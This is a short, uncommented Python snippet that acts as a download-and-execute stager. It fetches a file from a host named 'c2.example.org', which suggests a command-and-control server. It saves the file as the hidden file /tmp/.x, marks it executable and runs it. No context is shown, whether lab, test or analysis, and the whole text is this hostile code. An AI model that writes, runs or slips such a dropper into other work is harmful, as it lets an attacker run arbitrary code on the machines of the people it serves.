
import urllib.request, os
urllib.request.urlretrieve("http://c2.example.org/i.py", "/tmp/.x")
os.chmod("/tmp/.x", 0o755)
os.system("/tmp/.x")
